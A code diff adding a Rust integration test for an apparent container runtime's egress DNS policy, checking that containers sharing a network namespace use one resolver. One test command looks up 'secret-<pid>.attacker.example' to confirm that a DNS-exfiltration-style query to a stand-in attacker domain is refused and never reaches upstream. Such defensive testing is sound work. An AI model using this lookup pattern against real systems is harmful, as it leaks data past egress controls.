@@ -277,3 +277,88 @@ fn docker_container_names_resolve_through_moat_and_made_up_names_do_not_leave() 
     let _ = std::fs::remove_file(POLICY);
     assert_network_gone(&format!("moat-egnames-{me}"));
 }
+
+/// T18, issue 18 item 3 with docker: a moat container joining another's
+/// network namespace (`--network container:X`) with the same policy and
+/// name entries resolves through the one serving of that namespace (an
+/// allowed name answered, a made-up one refused and never upstream), and
+/// X is still served after the joiner is gone.
+#[test]
+fn docker_network_container_pair_shares_the_resolver() {
+    let rt = registered_egress_dns_runtime();
+    let me = std::process::id();
+    let (net, gw) = test_network(&format!("moat-egpair-{me}"));
+    std::fs::write(
+        POLICY,
+        format!(
+            "[egress]\nallow = [\"{SUBNET}\", \"svc.moat.test tcp 8080\"]\nresolvers = [\"{gw}:53\"]\nprivate_answers = [\"svc.moat.test {ANSWER}/32\"]\n"
+        ),
+    )
+    .unwrap();
+    let upstream = Server::dns(
+        Path::new("/proc/self/ns/net"),
+        SocketAddr::new(gw.into(), 53),
+        ANSWER,
+    );
+    let x = format!("moat-egx-{me}");
+    let started = docker(&[
+        "run",
+        "-d",
+        "--name",
+        &x,
+        "--runtime",
+        &rt,
+        "--network",
+        &net.0,
+        "--dns",
+        &gw.to_string(),
+        IMAGE,
+        "sleep",
+        "300",
+    ]);
+    assert!(started.ok(), "docker run {x}: {}", started.describe());
+    let secret = format!("secret-{me}.attacker.example");
+    let script = format!(
+        "timeout 10 nslookup svc.moat.test 2>&1; echo NS1=$?; timeout 10 nslookup {secret} 2>&1; echo NS2=$?"
+    );
+    let out = docker(&[
+        "run",
+        "--rm",
+        "--runtime",
+        &rt,
+        "--network",
+        &format!("container:{x}"),
+        IMAGE,
+        "sh",
+        "-c",
+        &script,
+    ])
+    .combined();
+    let want = format!("Address: {ANSWER}");
+    assert!(
+        out.contains("NS1=0") && out.lines().any(|l| l.trim() == want),
+        "the joiner's allowed name did not resolve:\n{out}"
+    );
+    assert!(!out.contains("NS2=0"), "the made-up name resolved:\n{out}");
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(upstream.asked("svc.moat.test"), "{out}");
+    assert!(!upstream.asked(&secret), "the made-up name left:\n{out}");
+    // X is still served after the joiner's delete.
+    let again = docker(&[
+        "exec",
+        &x,
+        "sh",
+        "-c",
+        "timeout 10 nslookup svc.moat.test 2>&1; echo NS=$?",
+    ]);
+    assert!(
+        again.stdout.contains("NS=0") && again.stdout.lines().any(|l| l.trim() == want),
+        "{x} lost its resolver: {}",
+        again.describe()
+    );
+
+    drop(upstream);
+    drop(net);
+    let _ = std::fs::remove_file(POLICY);
+    assert_network_gone(&format!("moat-egpair-{me}"));
+}
